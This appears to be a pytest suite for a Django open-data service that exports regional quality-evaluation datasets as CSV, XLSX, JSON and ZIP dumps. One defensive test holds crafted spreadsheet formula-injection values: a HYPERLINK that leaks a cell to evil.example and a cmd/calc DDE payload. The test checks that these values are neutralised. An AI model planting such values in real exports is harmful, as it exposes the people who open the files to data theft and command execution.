"""Open data: dataset downloads, campaign dumps, the catalogue and dataset pages."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from bs4 import BeautifulSoup
from django.conf import settings
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from django.utils.http import http_date
from openpyxl import load_workbook

from evaluation import selectors
from evaluation.enums import (
    CampaignKind,
    CampaignStatus,
    MeasureStatus,
    OrganisationKind,
    PlanStatus,
)
from evaluation.models import (
    Campaign,
    CouncilDecision,
    ImprovementPlan,
    IndicatorInput,
    Measure,
    Organisation,
    Submission,
)
from evaluation.nok import services
from evaluation.opendata.registry import registry
from tests.factories.region import grow_region

pytestmark = pytest.mark.django_db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def download_url(slug: str, fmt: str, campaign: str | None = None) -> str:
    url = reverse("evaluation-api:dataset-download", kwargs={"slug": slug, "fmt": fmt})
    return url + (f"?campaign={campaign}" if campaign else "")


def get_file(client, slug: str, fmt: str, campaign: str | None = None, **headers):
    response = client.get(download_url(slug, fmt, campaign), **headers)
    assert response.status_code == 200, response.getvalue()[:300]
    return response


def csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def csv_dicts(body: bytes, key: str) -> dict[str, dict[str, str]]:
    header, *rows = csv_rows(body)
    return {row[header.index(key)]: dict(zip(header, row, strict=True)) for row in rows}


def comma(value: Decimal) -> str:
    return format(value, "f").replace(".", ",")


def titles(slug: str) -> list[str]:
    return [column.title_ru for column in registry()[slug].columns]


# ----------------------------------------------------------------- results


def test_results_csv_has_the_published_figures(published_region, client) -> None:
    campaign = published_region.latest
    publication = selectors.latest_publication(campaign)
    response = get_file(client, "results", "csv", campaign.slug)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        response["Content-Disposition"] == 'attachment; filename="results-nok-2024.csv"'
    )
    assert response["Cache-Control"] == "public, max-age=300"
    assert response["Last-Modified"] == http_date(publication.published_at.timestamp())

    header, *rows = csv_rows(response.getvalue())
    assert header == titles("results")
    assert header[:3] == [
        "Идентификатор организации",
        "Код организации для адреса",
        "Организация",
    ]
    assert "Показатель 5.3" in header
    assert "Критерий К3" in header
    published = {r.organisation.slug: r for r in publication.results.all()}
    assert len(rows) == len(published) == 12
    # Best first, as on the site.
    assert [row[header.index("Место")] for row in rows[:3]] == ["1", "2", "3"]
    for row in rows:
        result = published[row[1]]
        assert row[header.index("Итоговый балл")] == comma(result.total)
        assert row[header.index("Критерий К1")] == comma(result.k1)
        assert row[header.index("Показатель 1.1")] == comma(
            Decimal(result.indicators["1.1"])
        )
        assert "," in row[header.index("Итоговый балл")]
        assert row[header.index("Организация")] == result.organisation.short_name
        assert row[header.index("Версия публикации")] == "1"
        assert row[header.index("Дата публикации")] == (
            f"{timezone.localdate(publication.published_at):%d.%m.%Y}"
        )


def test_results_xlsx_cells_are_numbers_and_dates(published_region, client) -> None:
    campaign = published_region.latest
    publication = selectors.latest_publication(campaign)
    response = get_file(client, "results", "xlsx", campaign.slug)
    assert response["Content-Type"] == XLSX
    assert 'filename="results-nok-2024.xlsx"' in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    assert sheet.freeze_panes == "A2"
    header = [cell.value for cell in sheet[1]]
    assert header == titles("results")
    assert all(cell.font.bold for cell in sheet[1])
    totals = {r.organisation_id: r.total for r in publication.results.all()}
    total_column = header.index("Итоговый балл")
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == 12
    for row in rows:
        organisation_id, total = row[0], row[total_column]
        assert organisation_id.data_type == "n"
        assert total.data_type == "n"
        assert isinstance(total.value, int | float)
        assert Decimal(str(total.value)) == totals[organisation_id.value]
        assert row[header.index("Место")].data_type == "n"
        published_on = row[header.index("Дата публикации")]
        assert published_on.is_date
        assert published_on.value.date() == timezone.localdate(publication.published_at)


def test_results_json_keeps_decimals_as_strings(published_region, client) -> None:
    campaign = published_region.latest
    publication = selectors.latest_publication(campaign)
    response = get_file(client, "results", "json", campaign.slug)
    assert response["Content-Type"] == "application/json"
    data = json.loads(response.getvalue())
    assert [set(item) for item in data] == [
        {c.key for c in registry()["results"].columns}
    ] * 12
    best = publication.results.get(rank=1)
    first = data[0]
    assert first["organisation_id"] == best.organisation_id
    assert first["total"] == str(best.total)
    assert first["indicator_5_3"] == str(Decimal(best.indicators["5.3"]))
    assert first["rank"] == 1
    assert (
        first["published_on"]
        == timezone.localdate(publication.published_at).isoformat()
    )


def test_results_are_the_published_version_not_working_figures(
    published_region, client
) -> None:
    campaign = published_region.latest
    publication = selectors.latest_publication(campaign)
    inputs = IndicatorInput.objects.filter(campaign=campaign).first()
    published_total = publication.results.get(organisation=inputs.organisation).total
    inputs.premises_access = 0
    inputs.service_access = 0
    inputs.comfort_conditions = 0
    inputs.save()
    services.recompute_campaign(campaign)
    working = campaign.results.get(organisation=inputs.organisation).total
    assert working != published_total

    data = json.loads(get_file(client, "results", "json", campaign.slug).getvalue())
    row = next(r for r in data if r["organisation_id"] == inputs.organisation_id)
    assert row["total"] == str(published_total)

    corrected = services.publish_campaign(campaign, note="Исправление")
    response = get_file(client, "results", "json", campaign.slug)
    row = next(
        r
        for r in json.loads(response.getvalue())
        if r["organisation_id"] == inputs.organisation_id
    )
    assert row["total"] == str(working)
    assert row["publication_version"] == corrected.version == 2
    assert response["Last-Modified"] == http_date(corrected.published_at.timestamp())


def test_conditional_get_and_accept_headers(published_region, client) -> None:
    campaign = published_region.latest
    first = get_file(client, "results", "csv", campaign.slug)
    again = client.get(
        download_url("results", "csv", campaign.slug),
        HTTP_IF_MODIFIED_SINCE=first["Last-Modified"],
    )
    assert again.status_code == 304
    # Files are chosen by extension: an Accept header does not cause a 406.
    assert get_file(client, "results", "csv", campaign.slug, HTTP_ACCEPT="text/csv")
    # Live data has no publication date to offer.
    organisations = get_file(client, "organisations", "csv")
    assert "Last-Modified" not in organisations
    assert organisations["Content-Disposition"] == (
        'attachment; filename="organisations.csv"'
    )


# ------------------------------------------------------------ every dataset


def test_every_dataset_reads_what_the_site_shows(published_region, client) -> None:
    region = published_region
    nok, decade = region.latest, region.decade

    organisations = csv_dicts(
        get_file(client, "organisations", "csv").getvalue(), "Код для адреса"
    )
    assert set(organisations) == {o.slug for o in region.organisations}
    sample = region.organisations[0]
    assert organisations[sample.slug]["ИНН"] == sample.inn
    assert organisations[sample.slug]["Тип организации"] == str(
        OrganisationKind(sample.kind).label
    )

    aggregates = json.loads(get_file(client, "aggregates", "json", nok.slug).getvalue())
    region_total = next(
        a for a in aggregates if a["level"] == "region" and a["figure"] == "total"
    )
    expected = selectors.aggregates(nok)["region"]["total"]
    assert region_total["mean"] == str(expected.mean)
    assert region_total["count"] == expected.count == 12
    districts = {a["group_code"] for a in aggregates if a["level"] == "district"}
    assert districts == {o.district.slug for o in region.organisations}
    assert {a["level"] for a in aggregates} == {"region", "district", "kind"}

    rows = csv_dicts(
        get_file(client, "decade", "csv", decade.slug).getvalue(),
        "Код организации для адреса",
    )
    assert len(rows) == 12
    summary = selectors.decade_summary(decade, sample)
    row = rows[sample.slug]
    assert row["Учтено анкет"] == str(summary.counted)
    assert row["Доля выборки"] == comma(summary.sample.share)
    assert row["Выборка достаточна"] == ("да" if summary.sample.adequate else "нет")
    assert row["Вопрос 15: удовлетворены, %"] == comma(summary.question("q15").share)
    assert "Вопрос 1: удовлетворены, %" not in row  # a filter question

    measures = json.loads(get_file(client, "measures", "json", nok.slug).getvalue())
    approved = Measure.objects.filter(
        plan__campaign=nok, plan__status=PlanStatus.APPROVED
    )
    assert len(measures) == approved.count() > 0
    done = approved.filter(status=MeasureStatus.DONE).first()
    item = next(m for m in measures if m["measure_id"] == done.pk)
    report = done.reports.get()
    assert item["status"] == "Выполнено"
    assert item["reports_count"] == 1
    assert item["actual_date"] == report.actual_date.isoformat()
    assert item["overdue"] is False

    submissions = csv_rows(
        get_file(client, "submissions", "csv", decade.slug).getvalue()
    )
    assert submissions[0] == titles("submissions")
    assert (
        len(submissions) - 1 == Submission.objects.filter(campaign=decade).count() > 0
    )

    targets = csv_rows(get_file(client, "targets", "csv").getvalue())
    assert targets[0] == titles("targets")
    assert ["2021", "", "46,60", ""] in [r[4:] for r in targets]
    # the demo plan's indicators are computed: every organisation assessed
    assert ["2024", "100,00", "100,0", "да"] in [r[4:] for r in targets]

    decisions = json.loads(get_file(client, "decisions", "json").getvalue())
    assert [d["campaign"] for d in decisions] == [
        "nok-2024",
        "decade-2024",
        "nok-2023",
        "nok-2022",
    ]


# ------------------------------------------------------------ neutralisation


CRAFTED = {
    "evil-link": '=HYPERLINK("http://evil.example/?d="&A1,"Подробнее")',
    "evil-phone": "+7 (391) 222-33-44",
    "evil-sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "evil-minus": "-1",
}


def test_formula_like_names_are_neutralised_in_csv_and_xlsx_not_json(
    published_region, client
) -> None:
    district = published_region.organisations[0].district
    for slug, name in CRAFTED.items():
        Organisation.objects.create(
            name=name,
            short_name=name,
            slug=slug,
            code=slug.upper(),
            kind=OrganisationKind.OTHER,
            district=district,
        )

    rows = csv_dicts(
        get_file(client, "organisations", "csv").getvalue(), "Код для адреса"
    )
    for slug, name in CRAFTED.items():
        assert rows[slug]["Полное наименование"] == "'" + name
        assert rows[slug]["Краткое наименование"] == "'" + name
    # Ordinary names are left alone.
    plain = published_region.organisations[0]
    assert rows[plain.slug]["Краткое наименование"] == plain.short_name

    sheet = load_workbook(
        io.BytesIO(get_file(client, "organisations", "xlsx").getvalue())
    ).active
    header = [cell.value for cell in sheet[1]]
    by_slug = {
        row[header.index("Код для адреса")].value: row
        for row in sheet.iter_rows(min_row=2)
    }
    for slug, name in CRAFTED.items():
        cell = by_slug[slug][header.index("Полное наименование")]
        assert (cell.data_type, cell.value) == ("s", "'" + name)
        assert by_slug[slug][0].data_type == "n"  # the id stays a number
    formulas = [
        cell.coordinate
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []

    data = json.loads(get_file(client, "organisations", "json").getvalue())
    names = {item["slug"]: item["name"] for item in data}
    for slug, name in CRAFTED.items():
        assert names[slug] == name


# --------------------------------------------------------------------- dumps


def test_nok_dump_holds_every_dataset_dictionary_and_readme(
    published_region, client
) -> None:
    campaign = published_region.latest
    publication = selectors.latest_publication(campaign)
    url = reverse("evaluation-api:campaign-dump", kwargs={"slug": campaign.slug})
    assert url == "/api/v1/campaigns/nok-2024/dump.zip"
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert (
        response["Content-Disposition"]
        == 'attachment; filename="opendata-nok-2024.zip"'
    )
    archive = zipfile.ZipFile(io.BytesIO(response.getvalue()))
    assert archive.testzip() is None
    datasets = ["organisations", "results", "aggregates", "measures", "submissions"]
    assert sorted(archive.namelist()) == sorted(
        ["README.txt", "data-dictionary.csv"]
        + [f"{slug}.{ext}" for slug in datasets for ext in ("csv", "xlsx")]
    )
    # The same bytes as the download of the frozen results.
    assert (
        archive.read("results.csv")
        == get_file(client, "results", "csv", campaign.slug).getvalue()
    )
    sheet = load_workbook(io.BytesIO(archive.read("results.xlsx"))).active
    assert sheet.max_row == 13

    readme = archive.read("README.txt").decode("utf-8")
    published_on = f"{timezone.localtime(publication.published_at):%d.%m.%Y}"
    assert f"версия публикации 1 от {published_on}" in readme
    assert "Версия методики: 344n-social" in readme
    assert "CC BY 4.0" in readme
    assert "https://creativecommons.org/licenses/by/4.0/" in readme
    assert "точка с запятой" in readme
    assert campaign.title in readme

    dictionary = csv_rows(archive.read("data-dictionary.csv"))
    assert dictionary[0] == [
        "Набор данных",
        "Столбец",
        "Заголовок",
        "Тип",
        "Единица измерения",
        "Описание",
    ]
    entries = {(row[0], row[1]): row for row in dictionary[1:]}
    assert entries["results", "total"][2:5] == ["Итоговый балл", "decimal", "балл"]
    assert entries["results", "published_on"][3] == "date"
    assert {dataset for dataset, _ in entries} == set(datasets)
    assert len(entries) == sum(len(registry()[slug].columns) for slug in datasets)


def test_decade_dump_has_the_decade_datasets(published_region, client) -> None:
    response = client.get(
        reverse("evaluation-api:campaign-dump", kwargs={"slug": "decade-2024"})
    )
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(response.getvalue()))
    names = set(archive.namelist())
    assert {"decade.csv", "decade.xlsx", "submissions.csv", "measures.csv"} <= names
    assert "results.csv" not in names
    readme = archive.read("README.txt").decode("utf-8")
    assert "Декада качества 2024" in readme
    assert "без нумерации версий" in readme
    decade = csv_rows(archive.read("decade.csv"))
    assert decade[0] == titles("decade")
    assert len(decade) == 13


# ------------------------------------------------------------------- errors


def _error(response, code: str) -> str:
    assert response.status_code == 404
    assert response["Content-Type"] == "application/json"
    body = response.json()
    assert body["error"]["code"] == code
    assert body["error"]["status"] == 404
    return body["error"]["message"]


def test_unknown_dataset_campaign_or_format_is_a_json_404(
    published_region, client
) -> None:
    message = _error(client.get(download_url("nope", "csv")), "unknown_dataset")
    assert message == "Набор данных «nope» не найден."
    message = _error(client.get(download_url("results", "csv")), "campaign_required")
    assert "укажите кампанию" in message
    message = _error(
        client.get(download_url("results", "csv", "nok-1999")), "unknown_campaign"
    )
    assert "«nok-1999» не найдена" in message
    # A Декада has no НОК results, and a НОК campaign no Декада.
    _error(
        client.get(download_url("results", "json", "decade-2024")), "unknown_campaign"
    )
    _error(client.get(download_url("decade", "csv", "nok-2024")), "unknown_campaign")
    message = _error(
        client.get(download_url("results", "xml", "nok-2024")), "unknown_format"
    )
    assert "Формат «xml» не поддерживается" in message
    _error(
        client.get(
            reverse("evaluation-api:campaign-dump", kwargs={"slug": "nok-1999"})
        ),
        "unknown_campaign",
    )
    assert client.get("/api/v1/datasets/nope/").status_code == 404
    assert client.get("/api/v1/datasets/results/?campaign=nok-1999").status_code == 404


def test_unpublished_campaigns_are_not_open_data(published_region, client) -> None:
    organisation = published_region.organisations[0]
    nok = Campaign.objects.create(
        kind=CampaignKind.NOK,
        year=2025,
        title="Независимая оценка качества 2025 года",
        slug="nok-2025",
        period_start=date(2025, 3, 1),
        period_end=date(2025, 10, 31),
        status=CampaignStatus.REVIEW,
    )
    ImprovementPlan.objects.create(
        organisation=organisation,
        campaign=nok,
        year=2026,
        status=PlanStatus.APPROVED,
    )
    decade = Campaign.objects.create(
        kind=CampaignKind.DECADE,
        year=2025,
        title="Декада качества 2025",
        slug="decade-2025",
        period_start=date(2025, 4, 1),
        period_end=date(2025, 4, 12),
        status=CampaignStatus.REVIEW,
    )
    Submission.objects.create(
        campaign=decade,
        organisation=organisation,
        kind="decade_summary",
        deadline=date(2025, 4, 20),
    )
    for slug, campaign in [
        ("results", nok),
        ("aggregates", nok),
        ("measures", nok),
        ("submissions", nok),
        ("decade", decade),
        ("submissions", decade),
    ]:
        _error(client.get(download_url(slug, "csv", campaign.slug)), "unknown_campaign")
    for campaign in (nok, decade):
        url = reverse("evaluation-api:campaign-dump", kwargs={"slug": campaign.slug})
        _error(client.get(url), "unknown_campaign")
    catalogue = client.get(reverse("evaluation-api:dataset-list")).json()
    listed = {
        c["slug"] for d in catalogue["datasets"] for c in d.get("campaigns", [])
    } | {dump["slug"] for dump in catalogue["dumps"]}
    assert listed == {"nok-2022", "nok-2023", "nok-2024", "decade-2024"}


def _measure(plan: ImprovementPlan, action: str) -> Measure:
    return Measure.objects.create(
        plan=plan,
        criterion="K1",
        indicator_code="1.1",
        deficiency="Недостаток",
        action=action,
        planned_date=date(2024, 6, 1),
        responsible_name="Иванова Анна Петровна",
        responsible_position="директор",
    )


def test_only_approved_plans_measures_appear(published_region, client) -> None:
    campaign = published_region.campaigns[1]  # nok-2023: no plans in the demo
    organisations = published_region.organisations
    statuses = [
        PlanStatus.APPROVED,
        PlanStatus.DRAFT,
        PlanStatus.SUBMITTED,
        PlanStatus.RETURNED,
    ]
    for organisation, status in zip(organisations, statuses, strict=False):
        plan = ImprovementPlan.objects.create(
            organisation=organisation, campaign=campaign, year=2024, status=status
        )
        _measure(plan, f"Мероприятие плана: {status.label}")

    csv_body = get_file(client, "measures", "csv", campaign.slug).getvalue()
    json_body = get_file(client, "measures", "json", campaign.slug).getvalue()
    xlsx = load_workbook(
        io.BytesIO(get_file(client, "measures", "xlsx", campaign.slug).getvalue())
    ).active
    dump = zipfile.ZipFile(
        io.BytesIO(
            client.get(
                reverse("evaluation-api:campaign-dump", kwargs={"slug": campaign.slug})
            ).getvalue()
        )
    )
    actions = [
        row[titles("measures").index("Мероприятие")] for row in csv_rows(csv_body)[1:]
    ]
    assert actions == ["Мероприятие плана: Утверждён"]
    assert [m["action"] for m in json.loads(json_body)] == actions
    assert xlsx.max_row == 2
    assert csv_rows(dump.read("measures.csv"))[1:] == csv_rows(csv_body)[1:]
    for status in statuses[1:]:
        hidden = f"Мероприятие плана: {status.label}"
        assert hidden.encode() not in csv_body
        assert hidden.encode() not in json_body
        assert hidden.encode() not in dump.read("measures.xlsx")


def test_unpublished_decisions_never_appear(published_region, client) -> None:
    CouncilDecision.objects.create(
        number="99/2024",
        decided_on=date(2024, 12, 1),
        title="Проект решения о переносе сроков",
        text="Не утверждено.",
        is_published=False,
    )
    CouncilDecision.objects.create(
        number="98/2024",
        decided_on=date(2024, 12, 2),
        title="Решение о плане работы",
        text="Утверждено.",
        organisation=published_region.organisations[0],
        is_published=True,
    )
    for fmt in ("csv", "json"):
        body = get_file(client, "decisions", fmt).getvalue()
        assert "Проект решения".encode() not in body
        assert "Решение о плане работы".encode() in body
    data = json.loads(get_file(client, "decisions", "json").getvalue())
    # The demo's: one per campaign the council approved (the Декада's in May).
    assert [d["number"] for d in data] == [
        "98/2024",
        "3/2024",
        "4/2024",
        "2/2023",
        "1/2022",
    ]
    assert data[0]["organisation_id"] == published_region.organisations[0].pk
    sheet = load_workbook(
        io.BytesIO(get_file(client, "decisions", "xlsx").getvalue())
    ).active
    assert sheet.max_row == 6  # the header and five published decisions
    assert sheet["B2"].is_date


# --------------------------------------------------------- catalogue, pages


def test_catalogue_lists_every_dataset_with_working_urls(
    published_region, client
) -> None:
    response = client.get("/api/v1/datasets/")
    assert response.status_code == 200
    assert response["Cache-Control"] == "public, max-age=300"
    catalogue = response.json()
    assert catalogue["licence"]["url"] == (
        "https://creativecommons.org/licenses/by/4.0/deed.ru"
    )
    assert catalogue["publisher"] == settings.WAGTAIL_SITE_NAME
    by_slug = {d["slug"]: d for d in catalogue["datasets"]}
    assert list(by_slug) == [
        "organisations",
        "results",
        "aggregates",
        "decade",
        "measures",
        "submissions",
        "targets",
        "decisions",
        "regional-plan",
    ]
    for slug, entry in by_slug.items():
        assert entry["title"] and entry["description"]
        assert entry["licence"]["code"] == "CC-BY-4.0"
        assert [c["key"] for c in entry["columns"]] == [
            c.key for c in registry()[slug].columns
        ]
        assert [f["format"] for f in entry["formats"]] == ["csv", "xlsx", "json"]
    assert [c["slug"] for c in by_slug["results"]["campaigns"]] == [
        "nok-2024",
        "nok-2023",
        "nok-2022",
    ]
    assert [c["slug"] for c in by_slug["decade"]["campaigns"]] == ["decade-2024"]
    assert {c["slug"] for c in by_slug["measures"]["campaigns"]} == {
        "nok-2024",
        "nok-2023",
        "nok-2022",
        "decade-2024",
    }
    assert "campaigns" not in by_slug["organisations"]
    assert by_slug["results"]["formats"][0]["url"] == (
        "http://testserver/api/v1/datasets/results.csv?campaign=nok-2024"
    )

    urls = {f["url"] for d in catalogue["datasets"] for f in d["formats"]}
    urls |= {
        f["url"]
        for d in catalogue["datasets"]
        for c in d.get("campaigns", [])
        for f in c["formats"]
    }
    urls |= {dump["url"] for dump in catalogue["dumps"]}
    assert len(urls) == 3 * (1 + 3 + 3 + 1 + 4 + 4 + 1 + 1 + 1) + 4
    for url in sorted(urls):
        assert url.startswith("http://testserver/api/v1/")
        assert client.get(url).status_code == 200, url


def test_dataset_page_has_dictionary_downloads_and_json_ld(
    published_region, client
) -> None:
    response = client.get(
        reverse("evaluation-api:dataset-page", kwargs={"slug": "results"})
    )
    assert response.status_code == 200
    html = BeautifulSoup(response.getvalue().decode(), "html.parser")
    assert html.html["lang"] == "ru"
    assert html.h1.get_text(strip=True) == "Результаты независимой оценки качества"
    keys = [
        th.get_text(strip=True)
        for table in html.select("table")
        for th in table.select("tbody th[scope=row]")
        if th.code
    ]
    assert keys == [c.key for c in registry()["results"].columns]
    assert html.select("thead th[scope=col]")
    links = {a["href"] for a in html.select("a[download]")}
    assert "http://testserver/api/v1/datasets/results.xlsx?campaign=nok-2022" in links
    assert "http://testserver/api/v1/campaigns/nok-2023/dump.zip" in links

    scripts = html.select('script[type="application/ld+json"]')
    assert len(scripts) == 1
    data = json.loads(scripts[0].string)
    assert "https://schema.org/" in data["@context"]
    assert {"dcat": "http://www.w3.org/ns/dcat#"}.items() <= data["@context"][1].items()
    assert "Dataset" in data["@type"]
    assert "dcat:Dataset" in data["@type"]
    assert data["name"] == (
        "Результаты независимой оценки качества: Независимая оценка качества 2024 года"
    )
    assert data["license"] == "https://creativecommons.org/licenses/by/4.0/deed.ru"
    assert data["creator"]["name"] == settings.WAGTAIL_SITE_NAME
    assert data["temporalCoverage"] == "2024-03-01/2024-10-31"
    assert data["version"] == "1"
    assert [v["name"] for v in data["variableMeasured"]] == [
        c.key for c in registry()["results"].columns
    ]
    assert {v["unitText"] for v in data["variableMeasured"] if "unitText" in v} == {
        "балл"
    }
    formats = {d["encodingFormat"]: d["contentUrl"] for d in data["distribution"]}
    assert set(formats) == {"text/csv", XLSX, "application/json"}
    assert len(data["dcat:distribution"]) == 3
    for media_type, url in formats.items():
        assert url.endswith("?campaign=nok-2024")
        download = client.get(url)
        assert download.status_code == 200
        assert download["Content-Type"].split(";")[0] == media_type
    assert {d["dcat:downloadURL"]["@id"] for d in data["dcat:distribution"]} == set(
        formats.values()
    )

    older = client.get("/api/v1/datasets/results/?campaign=nok-2022")
    data = json.loads(
        BeautifulSoup(older.getvalue().decode(), "html.parser")
        .select_one('script[type="application/ld+json"]')
        .string
    )
    assert data["temporalCoverage"] == "2022-03-01/2022-10-31"


def test_dataset_page_without_a_campaign(published_region, client) -> None:
    response = client.get("/api/v1/datasets/organisations/")
    assert response.status_code == 200
    html = BeautifulSoup(response.getvalue().decode(), "html.parser")
    data = json.loads(html.select_one('script[type="application/ld+json"]').string)
    assert "temporalCoverage" not in data
    assert [d["contentUrl"] for d in data["distribution"]] == [
        "http://testserver/api/v1/datasets/organisations.csv",
        "http://testserver/api/v1/datasets/organisations.xlsx",
        "http://testserver/api/v1/datasets/organisations.json",
    ]


def test_catalogue_page_links_every_dataset_and_dump(published_region, client) -> None:
    response = client.get(reverse("evaluation-api:dataset-catalogue-page"))
    assert response.status_code == 200
    html = BeautifulSoup(response.getvalue().decode(), "html.parser")
    pages = [a["href"] for a in html.select("tbody th[scope=row] a")]
    assert pages == [f"/api/v1/datasets/{slug}/" for slug in registry()]
    for page in pages:
        assert client.get(page).status_code == 200
    dumps = [a["href"] for a in html.select("#dumps ~ div a[download]")]
    assert dumps == [
        "http://testserver/api/v1/campaigns/nok-2024/dump.zip",
        "http://testserver/api/v1/campaigns/nok-2023/dump.zip",
        "http://testserver/api/v1/campaigns/nok-2022/dump.zip",
        "http://testserver/api/v1/campaigns/decade-2024/dump.zip",
    ]


# ------------------------------------------------------------ query counts


def queries(client, url: str) -> int:
    client.get(url)
    with CaptureQueriesContext(connection) as captured:
        response = client.get(url)
    assert response.status_code == 200, url
    return len(captured)


def test_query_counts_do_not_depend_on_the_number_of_organisations(
    published_region, client
) -> None:
    urls = [
        download_url("results", fmt, "nok-2024") for fmt in ("csv", "xlsx", "json")
    ] + [
        download_url("aggregates", "csv", "nok-2024"),
        download_url("organisations", "csv"),
        reverse("evaluation-api:campaign-dump", kwargs={"slug": "nok-2024"}),
        reverse("evaluation-api:dataset-page", kwargs={"slug": "results"}),
    ]
    before = {url: queries(client, url) for url in urls}
    grow_region(published_region, 15)
    after = {url: queries(client, url) for url in urls}
    assert after == before
    rows = csv_rows(get_file(client, "results", "csv", "nok-2024").getvalue())
    assert len(rows) == 1 + 12 + 15


def test_pages_before_anything_is_published(db, client) -> None:
    response = client.get("/api/v1/datasets/results/")
    assert response.status_code == 200
    html = BeautifulSoup(response.getvalue().decode(), "html.parser")
    data = json.loads(html.select_one('script[type="application/ld+json"]').string)
    assert data["distribution"] == data["dcat:distribution"] == []
    assert "temporalCoverage" not in data
    assert "Опубликованных кампаний для этого набора пока нет." in html.get_text()
    catalogue = client.get("/api/v1/datasets/").json()
    results = next(d for d in catalogue["datasets"] if d["slug"] == "results")
    assert results["formats"] == results["campaigns"] == []
    assert catalogue["dumps"] == []
    assert (
        client.get(download_url("organisations", "csv")).getvalue()
        == ("\ufeff" + ";".join(titles("organisations")) + "\r\n").encode()
    )
